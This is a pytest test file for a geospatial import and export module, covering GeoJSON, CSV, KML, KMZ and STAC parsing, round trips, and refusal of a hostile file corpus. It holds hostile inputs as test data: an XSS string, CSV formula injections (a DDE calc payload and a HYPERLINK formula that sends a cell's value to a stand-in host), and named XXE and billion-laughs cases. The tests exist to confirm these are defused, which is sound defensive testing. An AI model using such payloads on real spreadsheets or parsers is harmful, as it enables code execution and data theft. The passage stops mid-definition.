"""Uploads in, KML and CSV out (geo.formats): good files, round trips, and a hostile corpus.

The hostile files in tests/data/hostile/ are small and committed (their
README says what each one is); the big ones (deep nesting, limits, zip bomb)
are made here at test time.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import math
import os
import random
import re
import shutil
import subprocess
import tracemalloc
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import shapely
from hypothesis import given, settings
from hypothesis import strategies as st
from shapely.geometry import shape

from geo.errors import REPAIRABLE, DataError
from geo.formats import (
    CSV_COLUMNS,
    ORIGINAL_GEOMETRY_KEY,
    Limits,
    Upload,
    read_upload,
    to_csv,
    to_kml,
)
from geo.formats.limits import text_problem
from geo.geojson import crosses_antimeridian, geometry_problems, normalise_geometry
from geo.records import Kind, LayerRecord

DATA = Path(__file__).resolve().parent / "data"
IMPORTS = DATA / "imports"
HOSTILE = DATA / "hostile"

# A hostile file must be refused before the work its limit bounds. That is checked in
# memory, which does not depend on how loaded the machine is, as time does: refusing may
# cost what parsing the file costs (JSON made of tiny arrays or objects takes up to about
# 25 times its size as Python objects), never what a limit prevents (a zip bomb unpacked,
# entities expanded).
MEMORY_PER_BYTE = 32
MEMORY_FLOOR = 2 * 1024 * 1024


def read(name: str, **kwargs: Any) -> Upload:
    folder = IMPORTS if (IMPORTS / name).exists() else HOSTILE
    return read_upload(name, (folder / name).read_bytes(), layer="Import", **kwargs)


def field(record: LayerRecord, path: str) -> Any:
    value: Any = record
    for part in path.split("."):
        value = value[part] if isinstance(value, dict) else getattr(value, part)
    return value


# ---------------------------------------------------------------- good inputs

GOOD = [
    pytest.param(
        "sites.geojson",
        "geojson",
        3,
        {
            0: {"id": "gate", "kind": "place", "name": "Main gate", "date": "2016-08"},
            1: {
                "name": "Perimeter road",
                "date": "2017-05-15",
                "date_as_stated": "2017-05-15T08:30:00Z",
                "properties.lanes": 2,
                "kind": "other",
                "id": "Import#2",
            },
            2: {"date": "2013/2016", "kind": "area", "geometry.type": "Polygon"},
        },
        id="feature-collection",
    ),
    pytest.param(
        "bare-geometry.geojson",
        "geojson",
        1,
        {0: {"name": "Import #1", "geometry.type": "Polygon", "properties": {}, "date": None}},
        id="bare-geometry",
    ),
    pytest.param(
        "feature.geojson",
        "geojson",
        1,
        {0: {"id": "crater-1", "kind": "event", "date": "2015-01-03", "name": "Crater"}},
        id="feature",
    ),
    pytest.param(
        "points.csv",
        "csv",
        3,
        {
            0: {
                "id": "p1",
                "name": "Checkpoint",
                "geometry.coordinates": [36.2671, 33.6655],
                "properties.notes": 'seen on "two" images, north side',
                "date": "2016-08-01",
            },
            2: {"properties.notes": "1", "date": None, "date_as_stated": "last week"},
        },
        id="csv-lat-lon",
    ),
    pytest.param(
        "semicolon.csv",
        "csv",
        2,
        {
            0: {"name": "Well", "geometry.coordinates": [36.2671, 33.6655], "date": "2014"},
            1: {"date": "2015-06-01", "properties.Observed": "2015-06-01T10:00:00Z"},
        },
        id="csv-semicolons",
    ),
    pytest.param(
        "wkt.csv",
        "csv",
        4,
        {
            0: {"geometry.type": "LineString", "kind": "feature"},
            1: {"geometry.type": "Polygon", "kind": "area", "name": "Yard"},
            3: {"geometry.type": "MultiPoint", "kind": "other"},
        },
        id="csv-wkt",
    ),
    pytest.param(
        "placemarks.kml",
        "kml",
        3,
        {
            0: {
                "id": "pm-tower",
                "name": "Watch tower",
                "date": "2016-08-12",
                "properties.confidence": "probable",
                "properties.source": "Maxar 2016",
                "properties.description": "Seen <b>twice</b>",
                "geometry.coordinates": [36.2671, 33.6655, 0.0],
            },
            1: {"date": "2013/2016-05", "geometry.type": "Polygon"},
            2: {"geometry.type": "MultiPoint", "date": None},
        },
        id="kml",
    ),
    pytest.param(
        "placemarks.kmz",
        "kmz",
        3,
        {0: {"name": "Watch tower"}, 1: {"date_as_stated": "2013/2016-05"}},
        id="kmz",
    ),
    pytest.param(
        "stac-item.json",
        "stac",
        1,
        {
            0: {
                "id": "S2B_37SBT_20170515_0_L2A",
                "name": "S2B_37SBT_20170515_0_L2A",
                "kind": "imagery",
                "date": "2017-05-15",
                "properties.platform": "sentinel-2b",
                "properties.eo:cloud_cover": 3.2,
                "properties.gsd": 10,
                "properties.assets.visual.href": "https://example.org/S2B/TCI.tif",
            }
        },
        id="stac-item",
    ),
    pytest.param(
        "stac-itemcollection.json",
        "stac",
        2,
        {
            0: {"id": "skysat-20160812", "properties.platform": "SkySat-C3"},
            1: {"date": "2015-01-01/2015-12-31", "kind": "imagery"},
        },
        id="stac-itemcollection",
    ),
]


@pytest.mark.parametrize(("name", "fmt", "count", "expected"), GOOD)
def test_good_inputs(name: str, fmt: str, count: int, expected: dict[int, dict[str, Any]]) -> None:
    upload = read(name)
    assert upload.format == fmt
    assert len(upload.records) == count
    assert all(record.layer == "Import" for record in upload.records)
    for index, fields in expected.items():
        for path, value in fields.items():
            assert field(upload.records[index], path) == value, (index, path)


def test_stac_keeps_every_property_of_an_item_and_fetches_nothing() -> None:
    (record,) = read("stac-item.json").records
    item = json.loads((IMPORTS / "stac-item.json").read_text(encoding="utf-8"))
    assert record.properties == {
        **item["properties"],
        "collection": "sentinel-2-l2a",
        "assets": record.properties["assets"],
    }
    assert record.properties["view:sun_elevation"] == 64.9
    assert record.properties["providers"][0]["roles"] == ["producer", "licensor"]
    assert (record.date, record.name) == ("2017-05-15", "S2B_37SBT_20170515_0_L2A")
    assert record.properties["assets"]["visual"] == {
        "href": "https://example.org/S2B/TCI.tif",
        "type": "image/tiff; application=geotiff; profile=cloud-optimized",
        "title": "True color image",
    }


def test_odd_but_legal_input_gives_warnings() -> None:
    assert any("last week" in w for w in read("points.csv").warnings)
    assert any("decimal commas" in w for w in read("semicolon.csv").warnings)
    assert read("sites.geojson").warnings == []


def test_properties_are_kept_verbatim_and_copied() -> None:
    data = {
        "type": "Feature",
        "geometry": {"type": "Point", "coordinates": [1, 2]},
        "properties": {"n": "1", "list": [1, 1.0, None, True], "nested": {"a": {"b": "c"}}},
    }
    (record,) = read_upload("f.geojson", json.dumps(data).encode(), layer="L").records
    assert record.properties == data["properties"]
    assert type(record.properties["list"][1]) is float
    assert record.properties["n"] == "1"


def test_dates_from_properties() -> None:
    def date_of(props: dict[str, Any]) -> tuple[str | None, str | None, list[str]]:
        data = {"type": "Feature", "geometry": {"type": "Point", "coordinates": [1, 2]}}
        upload = read_upload(
            "d.geojson", json.dumps({**data, "properties": props}).encode(), layer="L"
        )
        return upload.records[0].date, upload.records[0].date_as_stated, upload.warnings

    assert date_of({"date": "2015-01"})[:2] == ("2015-01", "2015-01")
    assert date_of({"Date": "2015"})[:2] == ("2015", "2015")
    assert date_of({"datetime": "2015-01-03T23:30:00-05:00"})[:2] == (
        "2015-01-03",
        "2015-01-03T23:30:00-05:00",
    )
    assert date_of({"observed": 2014})[:2] == ("2014", "2014")
    assert date_of({"start": "2013-02", "end": "2014"})[:2] == ("2013-02/2014", "2013-02/2014")
    assert date_of({"date": "2015-01", "date_as_stated": "January 2015"})[:2] == (
        "2015-01",
        "January 2015",
    )
    assert date_of({"time": "2017/05/15 08:30:00+00"})[0] == "2017-05-15"  # as GDAL writes it
    date, stated, warnings = date_of({"date": "spring 2015"})
    assert (date, stated) == (None, "spring 2015")
    assert "spring 2015" in warnings[0]
    assert date_of({"date": "2016/2013"})[0] is None  # ends before it starts


def test_kind_and_name_fall_back() -> None:
    features = [
        {"type": "Feature", "geometry": {"type": "Point", "coordinates": [1, 2]}, "properties": p}
        for p in ({"kind": "event", "title": "T"}, {"kind": "Event"}, {"label": 7}, None)
    ]
    data = {"type": "FeatureCollection", "features": features}
    records = read_upload("k.geojson", json.dumps(data).encode(), layer="Mine").records
    assert [r.kind for r in records] == ["event", "other", "other", "other"]
    assert [r.name for r in records] == ["T", "Mine #2", "7", "Mine #4"]


def test_duplicate_ids_are_made_unique_with_a_warning() -> None:
    text = "id,lat,lon\na,1,2\na,1,2\nb,1,2\n"
    upload = read_upload("d.csv", text.encode(), layer="L")
    assert [r.id for r in upload.records] == ["a", "a (2)", "b"]
    assert any("more than once" in w for w in upload.warnings)


def test_csv_with_both_geometry_and_coordinates_reads_the_geometry() -> None:
    text = 'name,lat,lon,wkt\nA,10,20,"POINT (36.3 33.6)"\n'
    upload = read_upload("b.csv", text.encode(), layer="L")
    assert upload.records[0].geometry["coordinates"] == [36.3, 33.6]
    assert upload.records[0].properties == {"name": "A", "lat": "10", "lon": "20"}


def test_csv_geojson_geometry_column_and_excel_sep_line() -> None:
    cell = json.dumps({"type": "Point", "coordinates": [36.3, 33.6]}).replace('"', '""')
    text = f'sep=;\nname;geometry\nA;"{cell}"\n'
    (record,) = read_upload("g.csv", text.encode(), layer="L").records
    assert record.geometry == {"type": "Point", "coordinates": [36.3, 33.6]}


def test_content_wins_over_a_wrong_extension() -> None:
    data = (IMPORTS / "feature.geojson").read_bytes()
    upload = read_upload("feature.csv", data, layer="L")
    assert upload.format == "geojson"
    assert "named .csv" in upload.warnings[0]
    kmz = (IMPORTS / "placemarks.kmz").read_bytes()
    assert read_upload("placemarks.kml", kmz, layer="L").format == "kmz"


# ---------------------------------------------------------------- repair


def test_repair_makes_invalid_geometry_valid_and_keeps_the_original() -> None:
    upload = read("bow-tie.geojson", repair=True)
    (record,) = upload.records
    assert record.geometry["type"] == "MultiPolygon"
    assert record.properties[ORIGINAL_GEOMETRY_KEY] == {
        "type": "Polygon",
        "coordinates": [[[0, 0], [1, 1], [1, 0], [0, 1], [0, 0]]],
    }
    assert "make_valid" in upload.warnings[0] and "#1" in upload.warnings[0]
    # ... and the repaired record survives both exports.
    assert read_upload("r.kml", to_kml([record], document_name="r"), layer="x").records == [record]
    assert read_upload("r.csv", to_csv([record]).encode(), layer="x").records == [record]


def test_repair_does_not_overwrite_a_property_of_the_same_name() -> None:
    data = json.loads((HOSTILE / "bow-tie.geojson").read_text())
    data["features"][0]["properties"][ORIGINAL_GEOMETRY_KEY] = "mine"
    with pytest.raises(DataError, match="rename it"):
        read_upload("b.geojson", json.dumps(data).encode(), layer="L", repair=True)


def test_repair_does_not_touch_structural_problems() -> None:
    with pytest.raises(DataError, match="latitude 120"):
        read("latitude-120.geojson", repair=True)


# ---------------------------------------------------------------- round trips

HOSTILE_STRINGS = [
    "<img src=x onerror=alert(1)>",
    "]]>",
    "\"double\" and 'single' quotes",
    "line one\nline two\r\nline three\rend",
    "comma, semicolon; tab\tend",
    "نص عربي: صيدنايا",
    "😀 👩🏽‍⚖️ emoji",
    '=HYPERLINK("http://example.org","click")',
    "+1",
    "-2",
    "@SUM(A1)",
    "\tstarts with a tab",
    "${alert(1)}`\\`",
    "  padded  ",
    "&amp; &lt; &#13; %s {0}",
    "",
]

GEOMETRIES: list[dict[str, Any]] = [
    {"type": "Point", "coordinates": [36.2671234, 33.6655]},
    {"type": "Point", "coordinates": [-179.9999999, -89.5, 812.5]},
    {"type": "LineString", "coordinates": [[36.26, 33.66], [36.27, 33.67], [36.28, 33.665]]},
    {
        "type": "Polygon",
        "coordinates": [
            [[0, 0], [0, 10], [10, 10], [10, 0], [0, 0]],  # clockwise: normalised on write
            [[2, 2], [4, 2], [4, 4], [2, 4], [2, 2]],
            [[6, 6], [8, 6], [8, 8], [6, 8], [6, 6]],
        ],
    },
    {
        "type": "MultiPolygon",
        "coordinates": [
            [[[20, 20], [21, 20], [21, 21], [20, 21], [20, 20]]],
            [
                [[30, 30], [35, 30], [35, 35], [30, 35], [30, 30]],
                [[31, 31], [31, 32], [32, 32], [32, 31], [31, 31]],
            ],
        ],
    },
    {"type": "MultiPoint", "coordinates": [[1e-7, -5e-7], [3, 4]]},
    {"type": "MultiLineString", "coordinates": [[[1, 1], [2, 2]], [[3, 3], [4, 4], [5, 3]]]},
]
DATES = [None, "2015", "2015-01", "2015-01-03", "2013/2016", "2015-01-10/2015-02"]


def hostile_records() -> list[LayerRecord]:
    kinds = list(Kind)
    records = []
    for index, text in enumerate(HOSTILE_STRINGS):
        date = DATES[index % len(DATES)]
        records.append(
            LayerRecord(
                id=f"rec-{index} {text}",
                layer="Annotations" if index % 2 else f"Import <b>{index % 3}</b> «x»",
                kind=kinds[index % len(kinds)],
                name=text,
                geometry=normalise_geometry(GEOMETRIES[index % len(GEOMETRIES)]),
                properties={
                    "note": text,
                    text or "empty": [
                        text,
                        1,
                        1.0,
                        -0.0,
                        10**20,
                        True,
                        None,
                        {"deep": {"er": text}},
                    ],
                    "نص": "value",
                    "date": "not the record's date",
                },
                date=date,
                date_as_stated=(text or None) if index % 3 else None,
            )
        )
    return records


def by_folder(records: list[LayerRecord]) -> list[LayerRecord]:
    """The order of a KML export: layer by layer (first seen first), in order within each."""
    layers = list(dict.fromkeys(record.layer for record in records))
    return sorted(records, key=lambda record: layers.index(record.layer))


def test_hostile_records_round_trip_through_kml() -> None:
    records = hostile_records()
    kml = to_kml(records, document_name="Case <export> & ]]>")
    upload = read_upload("export.kml", kml, layer="ignored: the file names its layers")
    assert upload.format == "kml"
    assert upload.warnings == []
    assert upload.records == by_folder(records)


def test_hostile_records_round_trip_through_csv() -> None:
    records = hostile_records()
    text = to_csv(records)
    for encoding in ("utf-8", "utf-8-sig"):  # with a BOM, as Excel wants
        upload = read_upload("export.csv", text.encode(encoding), layer="ignored")
        assert upload.format == "csv"
        assert upload.warnings == []
        assert upload.records == records


@pytest.mark.parametrize("name", [p.name for p in sorted(IMPORTS.iterdir()) if p.suffix != ".md"])
def test_every_import_round_trips(name: str) -> None:
    records = read(name).records
    kml = read_upload("x.kml", to_kml(records, document_name=name), layer="other")
    csv_ = read_upload("x.csv", to_csv(records).encode(), layer="other")
    assert kml.records == by_folder(records)
    assert csv_.records == records


def test_kml_is_built_as_xml_not_by_concatenation() -> None:
    records = hostile_records()
    kml = to_kml(records, document_name="<doc>")
    assert kml.startswith(b"<?xml version='1.0' encoding='utf-8'?>")
    assert b"<img" not in kml and b"&lt;img src=x onerror=alert(1)&gt;" in kml
    assert b"\r" not in kml and b"&#13;" in kml  # a CR survives as a character reference
    assert b"<!DOCTYPE" not in kml
    assert kml.count(b"<Folder>") == len({r.layer for r in records})
    assert b"<TimeSpan>" in kml and b"<begin>2013</begin>" in kml
    assert b"<when>2015-01</when>" in kml
    assert b"<innerBoundaryIs>" in kml and b"<MultiGeometry>" in kml
    assert b"0.0000001,-0.0000005" in kml  # no exponents in coordinates


def test_csv_is_spreadsheet_friendly_text() -> None:
    records = hostile_records()
    text = to_csv(records)
    assert text.splitlines()[0] == ",".join(CSV_COLUMNS)
    row = text.split("\r\n")[1].split(",")
    assert row[6:8] == ["36.2671234", "33.6655"]  # longitude, latitude of a point


# ---------------------------------------------------------------- formula injection

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?", re.ASCII)


def runnable(cell: str) -> bool:
    """Whether a spreadsheet could take the cell for a formula (a plain number is not one)."""
    return cell.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(cell)


def csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


# Issue 8: each of these was written as it is, for a spreadsheet to run.
INJECTIONS = [
    '=HYPERLINK("http://x/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-1+1",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "'=1+1",  # already marked: gets one more mark, so that reading takes one off
]


@pytest.mark.parametrize("value", INJECTIONS)
def test_csv_cells_that_could_run_are_defused_and_read_back(value: str) -> None:
    point = {"type": "Point", "coordinates": [-70.25, -33.5]}
    record = LayerRecord(value, value, Kind.PLACE, value, point, {"note": value}, None, value)
    text = to_csv([record])
    assert not any(runnable(cell) for cell in csv_cells(text))
    assert f"'{value}" in csv_cells(text)  # id, layer, name, date_as_stated
    assert read_upload("x.csv", text.encode(), layer="ignored").records == [record]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("-33.5", "-33.5"),  # a number is not a formula, and stays a number
        ("+1", "+1"),
        ("-1e5", "-1e5"),
        ("-.5", "-.5"),
        ("-٣", "'-٣"),  # not a number to a spreadsheet (Arabic-Indic digit)
        ("- 1", "'- 1"),
        ("1+1", "1+1"),  # a formula only when it starts with a sign
        ("plain", "plain"),
        ("", ""),
    ],
)
def test_csv_numbers_and_plain_text_are_written_as_they_are(value: str, cell: str) -> None:
    point = {"type": "Point", "coordinates": [1.0, 2.0]}
    record = LayerRecord("a", "L", Kind.PLACE, value, point)
    text = to_csv([record])
    assert csv_cells(text)[len(CSV_COLUMNS) + 3] == cell  # the name
    assert read_upload("x.csv", text.encode(), layer="L").records == [record]


def test_negative_coordinates_stay_numbers() -> None:
    point = {"type": "Point", "coordinates": [-70.25, -33.5]}
    text = to_csv([LayerRecord("a", "L", Kind.PLACE, "Santiago", point)])
    assert csv_cells(text)[len(CSV_COLUMNS) + 6 : len(CSV_COLUMNS) + 8] == ["-70.25", "-33.5"]


def test_a_foreign_csv_keeps_its_apostrophes() -> None:
    text = "name,lat,lon\n'quoted,1,2\n'=1+1,3,4\n"
    records = read_upload("f.csv", text.encode(), layer="L").records
    assert [record.name for record in records] == ["'quoted", "'=1+1"]


def test_our_csv_edited_in_a_spreadsheet_reads_back() -> None:
    """A spreadsheet shows '=1+1 as text and saves it as it is: the mark is taken off."""
    point = {"type": "Point", "coordinates": [1.0, 2.0]}
    record = LayerRecord("a", "=L", Kind.PLACE, "=1+1", point)
    text = to_csv([record]).replace("'=1+1", "'=2+2")
    (again,) = read_upload("x.csv", text.encode(), layer="x").records
    assert (again.name, again.layer) == ("=2+2", "=L")


# Text a record can hold: no characters that are not text (the writers refuse those).
text_values = st.text(
    alphabet=st.one_of(
        st.sampled_from([*FORMULA_STARTS, "'", "0", "1", ".", "e", " ", "\n", '"', ","]),
        st.characters(exclude_categories=("Cs",), exclude_characters="\ufffe\uffff"),
    ),
    max_size=20,
).filter(lambda text: text_problem(text) is None)


@given(
    record_id=text_values.filter(str.strip),
    layer=text_values,
    name=text_values,
    stated=st.one_of(st.none(), text_values.filter(bool)),
    key=text_values,
    value=text_values,
)
@settings(max_examples=300, deadline=None)
def test_any_text_round_trips_through_csv_and_no_cell_can_run(
    record_id: str, layer: str, name: str, stated: str | None, key: str, value: str
) -> None:
    point = {"type": "Point", "coordinates": [-70.25, -33.5]}
    record = LayerRecord(record_id, layer, Kind.PLACE, name, point, {key: value}, None, stated)
    text = to_csv([record])
    assert not any(runnable(cell) for cell in csv_cells(text))
    assert read_upload("x.csv", text.encode(), layer="ignored").records == [record]


def test_an_empty_date_as_stated_reads_back_as_none_from_csv() -> None:
    record = LayerRecord("a", "L", Kind.PLACE, "A", {"type": "Point", "coordinates": [1.0, 2.0]})
    stated = LayerRecord(**{**record.__dict__, "date_as_stated": ""})
    assert read_upload("a.csv", to_csv([stated]).encode(), layer="L").records == [record]
    assert read_upload("a.kml", to_kml([stated], document_name="d"), layer="L").records == [stated]


@pytest.mark.parametrize("writer", ["kml", "csv"])
def test_writers_refuse_what_cannot_be_read_back(writer: str) -> None:
    point = {"type": "Point", "coordinates": [1.0, 2.0]}
    records = [
        LayerRecord("ok", "L", Kind.PLACE, "fine", point),
        LayerRecord("bell", "L", Kind.PLACE, "ring \x07", point),
        LayerRecord("nan", "L", Kind.PLACE, "n", point, properties={"x": float("nan")}),
        LayerRecord("geo", "L", Kind.PLACE, "g", {"type": "Point", "coordinates": [1, 95]}),
    ]
    with pytest.raises(DataError) as caught:
        to_kml(records, document_name="d") if writer == "kml" else to_csv(records)
    problems = caught.value.problems
    assert [(p.record, p.field) for p in problems] == [
        ("#2 (bell)", "name"),
        ("#3 (nan)", "properties.x"),
        ("#4 (geo)", "geometry"),
    ]
    assert "U+0007" in problems[0].message


# ---------------------------------------------------------------- the hostile corpus

# file: (fragments the message must contain, record, field)
CORPUS: dict[str, tuple[tuple[str, ...], str | None, str | None]] = {
    "broken.geojson": (("not valid JSON", "line 3"), None, None),
    "features-not-a-list.geojson": (("'features' must be a list",), None, "features"),
    "coordinates-as-strings.geojson": (("finite numbers", "'36.3'"), "#1", "geometry"),
    "nan.geojson": (("NaN is not a JSON number",), None, None),
    "infinity.geojson": (("Infinity is not a JSON number",), None, None),
    "latitude-120.geojson": (("latitude 120 is outside -90..90",), "#2", "geometry"),
    "longitude-200.geojson": (("longitude 200 is outside -180..180",), "#1", "geometry"),
    "swapped.csv": (("latitude and longitude look swapped", "'lat'", "'lon'"), None, "lat"),
    "bow-tie.geojson": (("Self-intersection", "repairable with make_valid"), "#1", "geometry"),
    "unclosed-ring.geojson": (("must end where it starts",), "#1", "geometry"),
    "ring-of-3.geojson": (("at least 4 positions, got 3",), "#1", "geometry"),
    "empty-collection.geojson": (("nothing to import", "an empty FeatureCollection"), None, None),
    "binary-garbage.geojson": (("binary data", "NUL byte"), None, None),
    "png-bytes.geojson": (("PNG image", "not a GeoJSON file"), None, None),
    "utf-16.geojson": (("UTF-16", "FF FE", "save the file as UTF-8"), None, None),
    "utf-16-no-bom.csv": (("looks like UTF-16",), None, None),
    "latin-1.csv": (("not UTF-8", "byte 0xE9", "line 2"), None, None),
    "crs-unknown.geojson": (("'EPSG:999999' is unknown to PROJ", "ogr2ogr -t_srs"), None, "crs"),
    "geometry-collection.geojson": (("GeometryCollection is not supported",), "#1", "geometry"),
    "xxe.kml": (("DOCTYPE", "'xxe'", "file:///etc/passwd (not read)", "XXE"), None, None),
    "billion-laughs.kml": (("DOCTYPE", "'lol'", "billion laughs"), None, None),
    "not-well-formed.kml": (("not well-formed XML", "mismatched tag"), None, None),
    "no-kml-inside.kmz": (("no .kml file inside the KMZ", "readme.txt"), None, None),
    "not-a-zip.kmz": (("not a zip archive",), None, None),
    "no-coordinate-columns.csv": (
        ("no coordinate columns found", "'name', 'place', 'date'", "--lat-column"),
        None,
        None,
    ),
    "non-numeric-latitude.csv": (("'north' is not a number", "line 3"), "#2", "latitude"),
    "ragged-rows.csv": (("2 cells where the header has 3",), "#2", None),
    "empty.geojson": (("the file is empty",), None, None),
    "empty-lines-only.csv": (("the file is empty",), None, None),
    "stac-without-geometry.json": (("without geometry",), "#1 (no-footprint)", "geometry"),
    "stac-bad-datetime.json": (
        ("'last Tuesday' is not an RFC 3339 date-time",),
        "#1 (when)",
        "properties.datetime",
    ),
    "stac-collection.json": (("STAC Collection",), None, None),
    "topojson.json": (("'Topology' is not GeoJSON",), None, "type"),
    "top-level-array.geojson": (("got a JSON array",), None, None),
    "null-geometry.geojson": (
        ("nothing to import", "1 feature(s) have no geometry (null)", "import the table as CSV"),
        None,
        None,
    ),
    "properties-a-string.geojson": (("properties must be an object",), "#1", "properties"),
    "control-character.geojson": (("U+0007", "not text"), "#1", "properties.name"),
    "many-problems.geojson": (("latitude 95",), "#1", "geometry"),
    "web-page.geojson": (("web page (HTML)",), None, None),
    "gpx-named.kml": (("not a KML document", "<gpx>"), None, None),
    "projected.csv": (("projected coordinates",), None, "y"),
    "wkt-collection-bomb.csv": (("GeometryCollection is not supported",), "#1", "wkt"),
    "wkt-deep-nesting.csv": (("WKT nested deeper",), "#1", "wkt"),
    "wkt-invalid.csv": (("not valid WKT", "closed linestring"), "#1", "wkt"),
    "sketchup-model.kml": (
        ("nothing to import", "1 3D model(s), from SketchUp", "draw the model's footprint"),
        None,
        None,
    ),
    "placemark-without-geometry.kml": (("no geometry",), "#1", "geometry"),
    "kml-bad-coordinates.kml": (("'36.3;33.6'", "longitude,latitude"), "#1", "coordinates"),
    "kml-track-bad-coord.kml": (
        ("'36.3,33.6,0' in a gx:Track is not longitude latitude",),
        "#1",
        "coordinates",
    ),
    "duplicate-columns.csv": (("'name' appears twice",), None, "name"),
    "tampered-export.csv": (("kind must be one of place, imagery",), "#1", "kind"),
    "tampered-export.kml": (("not valid JSON",), "#1", "properties"),
    "antimeridian-around-pole.geojson": (
        ("crosses the antimeridian", "goes around a pole", "ogr2ogr -wrapdateline"),
        "#1",
        "geometry",
    ),
    "antimeridian-bow-tie.geojson": (
        ("cannot be cut there reliably", "Self-intersection"),
        "#1",
        "geometry",
    ),
    "key-too-long.geojson": (
        ("a property name of 1,001 characters is over the 1,000-character limit",),
        "#1",
        "properties." + "k" * 59 + "…",
    ),
    "kml-data-name-too-long.kml": (
        ("a property name of 1,001 characters is over the 1,000-character limit",),
        "#1",
        "n" * 59 + "…",
    ),
    "csv-column-name-too-long.csv": (
        ("a property name of 1,001 characters is over the 1,000-character limit",),
        None,
        "c" * 59 + "…",
    ),
}


def refusal(call: Callable[[], object], *, size: int = 0) -> DataError:
    """The DataError `call` raises for a file of `size` bytes, within its memory allowance."""
    tracing = tracemalloc.is_tracing()
    if not tracing:
        tracemalloc.start()
    tracemalloc.reset_peak()
    before, _ = tracemalloc.get_traced_memory()
    try:
        with pytest.raises(DataError) as caught:
            call()
        _, peak = tracemalloc.get_traced_memory()
    finally:
        if not tracing:
            tracemalloc.stop()
    assert peak - before <= MEMORY_PER_BYTE * size + MEMORY_FLOOR
    return caught.value


def test_the_corpus_is_complete() -> None:
    files = {path.name for path in HOSTILE.iterdir() if path.name != "README.md"}
    assert files == set(CORPUS)
    assert len(CORPUS) + len(GENERATED) >= 30


@pytest.mark.parametrize("name", sorted(CORPUS))
def test_hostile_file_is_refused_clearly(name: str) -> None:
    fragments, record, field_ = CORPUS[name]
    error = refusal(lambda: read(name))
    first = error.problems[0]
    for fragment in fragments:
        assert fragment in first.message, (fragment, first.message)
    assert first.file == name
    assert (first.record, first.field) == (record, field_)
    assert fragments[0] in str(error)
    # what the app offers to repair it knows by the code, not by the words
    assert (first.code == REPAIRABLE) == ("repairable with make_valid" in first.message)


def test_every_problem_is_reported_not_just_the_first() -> None:
    error = refusal(lambda: read("many-problems.geojson"))
    assert [(p.record, p.field) for p in error.problems] == [
        ("#1", "geometry"),
        ("#3", "geometry"),
        ("#4", "properties"),
    ]
    error = refusal(lambda: read("kml-bad-coordinates.kml"))
    assert [p.record for p in error.problems] == ["#1", "#2"]
    assert "latitude 133.6" in error.problems[1].message
    error = refusal(lambda: read("wkt-invalid.csv"))
    assert "'abc'" in error.problems[1].message


def test_our_own_files_edited_badly_are_checked_field_by_field() -> None:
    error = refusal(lambda: read("tampered-export.csv"))
    assert [(p.record, p.field) for p in error.problems] == [
        ("#1", "kind"),
        ("#1", "date"),
        ("#2", "geometry"),
        ("#3", "properties"),
    ]
    error = refusal(lambda: read("tampered-export.kml"))
    assert [(p.record, p.field) for p in error.problems] == [
        ("#1", "properties"),
        ("#2", "kind"),
        ("#2", "date"),
    ]


def test_a_flood_of_problems_is_capped() -> None:
    text = "name,lat,lon\n" + "x,north,east\n" * 1500
    error = refusal(lambda: read_upload("flood.csv", text.encode(), layer="L"))
    assert len(error.problems) == 1001
    assert "2,000 more problems not listed" in error.problems[-1].message


# ---------------------------------------------------------------- generated hostile files


def zipped(name: str, data: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, data)
    return buffer.getvalue()


def feature_with(properties: dict[str, Any]) -> bytes:
    geometry = {"type": "Point", "coordinates": [36.3, 33.6]}
    return json.dumps({"type": "Feature", "geometry": geometry, "properties": properties}).encode()


def comment_kml(size: int) -> bytes:
    """A KML of `size` bytes that is one comment and packs about 16 to 1: under the ratio
    limit, so only the size limit stops it."""
    rng = random.Random(1)
    line = bytearray(b"x" * 60 + b"abcd\n")
    lines = []
    for _ in range(size // len(line) + 1):
        line[60:64] = bytes(rng.choices(b"abcdefghijklmnopqrstuvwxyz", k=4))
        lines.append(bytes(line))
    body = b"".join(lines)[: size - len(b"<kml><!---->\n</kml>")]
    return b"<kml><!--" + body + b"-->\n</kml>"


def circle(vertices: int, lon: float = 36.0, lat: float = 33.0) -> list[list[float]]:
    """A closed ring of `vertices` positions (the last repeats the first)."""
    ring = [
        [round(lon + math.cos(angle), 7), round(lat + math.sin(angle), 7)]
        for angle in (2 * math.pi * index / (vertices - 1) for index in range(vertices - 1))
    ]
    return [*ring, ring[0]]


def polygon_feature(vertices: int) -> bytes:
    geometry = {"type": "Polygon", "coordinates": [circle(vertices)]}
    return json.dumps({"type": "Feature", "geometry": geometry, "properties": {}}).encode()


def kml_placemark(geometry: bytes, extended: bytes = b"") -> bytes:
    return b"<kml><Placemark>" + extended + geometry + b"</Placemark></kml>"


def kml_ring(vertices: int) -> bytes:
    coordinates = " ".join(f"{lon},{lat}" for lon, lat in circle(vertices)).encode()
    return (
        b"<Polygon><outerBoundaryIs><LinearRing><coordinates>"
        + coordinates
        + b"</coordinates></LinearRing></outerBoundaryIs></Polygon>"
    )


def kml_data(count: int) -> bytes:
    values = b"".join(b'<Data name="p%d"><value>1</value></Data>' % n for n in range(count))
    return b"<ExtendedData>" + values + b"</ExtendedData>"


def many_columns(count: int) -> bytes:
    header = "lat,lon," + ",".join(f"c{n}" for n in range(count))
    return f"{header}\n33.6,36.3{',x' * count}\n".encode()


def own_csv_with_properties(count: int) -> bytes:
    point = {"type": "Point", "coordinates": [36.3, 33.6]}
    properties = {f"p{n}": n for n in range(count)}
    return to_csv([LayerRecord("a", "L", Kind.PLACE, "A", point, properties)]).encode()


PLACEMARK = b"<Placemark><Point><coordinates>36.3,33.6</coordinates></Point></Placemark>"
SMALL = Limits(max_features=10, max_coordinates=100, max_string=50)
FEW_VERTICES = Limits(max_vertices_per_geometry=10)

# id: (file name, bytes maker, limits, fragments)
GENERATED: dict[str, tuple[str, Callable[[], bytes], Limits, tuple[str, ...]]] = {
    "json-100k-levels": (
        "deep.geojson",
